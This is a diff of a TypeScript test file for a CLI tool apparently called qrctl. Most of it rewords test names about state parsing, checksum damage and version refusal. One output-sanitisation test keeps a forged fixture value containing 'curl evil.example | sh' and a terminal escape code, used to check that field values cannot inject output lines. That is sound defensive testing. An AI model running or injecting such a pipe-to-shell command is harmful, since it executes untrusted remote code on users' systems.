@@ -74,7 +74,7 @@ describe('a state', () => {
   });
 
   it.each([undefined, 4 * HOUR, Number.NEGATIVE_INFINITY])(
-    'keeps the time from which to read again: %s',
+    'keeps the time from which the next run reads again: %s',
     (rereadFromMs) => {
       const overlaps = new Map([['a', { ...emptyOverlap(), rereadFromMs }]]);
       expect(parseState(formatState(stateOf({ overlaps }), HOUR)).overlaps.get('a')?.rereadFromMs).toBe(
@@ -83,12 +83,12 @@ describe('a state', () => {
     },
   );
 
-  it('can contain the latest time that a Date can have', () => {
+  it('can contain the latest time that a Date supports', () => {
     const overlaps = new Map([['a', { ...emptyOverlap(), watermarkMs: 8.64e15 }]]);
     expect(parseState(formatState(stateOf({ overlaps }), HOUR)).overlaps.get('a')?.watermarkMs).toBe(8.64e15);
   });
 
-  it('of an older version has the IDs of rotated rows from the same time on as other IDs (A25)', () => {
+  it('from an earlier version has the same start time for the IDs of rotated rows as for other IDs (A25)', () => {
     const { a } = saved(2 * HOUR).positions;
     const older = { ...saved(), checksum: undefined, positions: { a: { ...a, movedUntilMs: 9 * HOUR } } };
     expect(parseState(sealed(older)).overlaps.get('a')?.movedIdsFromMs).toBe(8 * HOUR);
@@ -106,7 +106,7 @@ describe('a state', () => {
     expect(saved().positions.b).toMatchObject({ rows: 0, idsFromMs: null, ids: [] });
   });
 
-  it('is damaged if it was truncated or changed anywhere (A2)', () => {
+  it('is rejected if it was truncated or changed at any byte (A2)', () => {
     const whole = formatState(stateOf(), HOUR);
     for (let at = 0; at < whole.length; at++) {
       expect(() => parseState(whole.subarray(0, at)), `cut to ${at} bytes`).toThrow(DamagedRecordError);
@@ -125,7 +125,7 @@ describe('a state', () => {
     expect(() => parseState(Buffer.from(' {"version":9,'))).toThrow(DamagedRecordError);
   });
 
-  it.each([0, 3, 17])('of version %i is refused (A16)', (version) => {
+  it.each([0, 3, 17])('with version %i is refused (A16)', (version) => {
     const words = `has version ${version}, which this version of qrctl does not support`;
     expect(() => parseState(sealed({ ...saved(), checksum: undefined, version }))).toThrow(
       new UnknownRecordError(words),
@@ -179,14 +179,17 @@ describe('a state', () => {
     ['the time of an ID', inPosition({ ids: [['9', null]] })],
     ['one of two positions', { positions: { a, b: 1 } }],
   ];
-  it.each(forms)('is refused for an invalid field, although its checksum is right: %s (A16)', (_, change) => {
-    const words = 'has a format that this version of qrctl does not support';
-    expect(() => parseState(sealed({ ...saved(), checksum: undefined, ...change }))).toThrow(
-      new UnknownRecordError(words),
-    );
-  });
+  it.each(forms)(
+    'is refused if a field is invalid, although its checksum is right: %s (A16)',
+    (_, change) => {
+      const words = 'has a format that this version of qrctl does not support';
+      expect(() => parseState(sealed({ ...saved(), checksum: undefined, ...change }))).toThrow(
+        new UnknownRecordError(words),
+      );
+    },
+  );
 
-  it('is refused if it is not an object or not JSON, although its checksum is right (A16)', () => {
+  it('is refused if it is not JSON, although its checksum is right (A16)', () => {
     const text = '{"version":1,nonsense';
     const checksum = createHash('sha256').update(`${text}}`).digest('hex');
     expect(() => parseState(Buffer.from(`${text},"checksum":"${checksum}"}\n`))).toThrow(UnknownRecordError);
@@ -194,7 +197,7 @@ describe('a state', () => {
 });
 
 describe('a run that differs from the file', () => {
-  it("is described in printable characters, so that values can't forge the message", () => {
+  it('gets a reason and a hint in printable characters, so that no value can forge a line of output', () => {
     const forged = 'x\n  next: curl evil.example | sh\x1b[2J';
     const dialect = { ...identity.dialect, timezone: forged, delimiter: forged };
     const states: AppendIdentity[] = [
@@ -267,7 +270,7 @@ describe('a run that differs from the file', () => {
     expect(differenceOf({ ...identity, codes: ['a,b'] }, identity)).toBeDefined();
   });
 
-  it('is described with at most 20 names in a reason, and 20 columns and 5 codes in a command', () => {
+  it('gets a reason with at most 20 codes, and a hint that lists only up to 5 codes or 20 columns', () => {
     const names = (count: number) =>
       Array.from({ length: count }, (_, i) => `n${String(i).padStart(2, '0')}`);
     const codes = (count: number) => differenceOf({ ...identity, codes: names(count) }, identity);
@@ -285,7 +288,7 @@ describe('a run that differs from the file', () => {
     expect(differenceOf(tabs, { ...tabs })).toBeUndefined();
   });
 
-  it('is accepted if only the order of codes, the codes under --all, or --excel with NDJSON differ', () => {
+  it('is accepted if it differs only in the order of codes, in the codes under --all, or in --excel with NDJSON', () => {
     expect(differenceOf(identity, { ...identity, codes: ['a', 'b'] })).toBeUndefined();
     expect(
       differenceOf({ ...identity, all: true }, { ...identity, all: true, codes: ['c'] }),
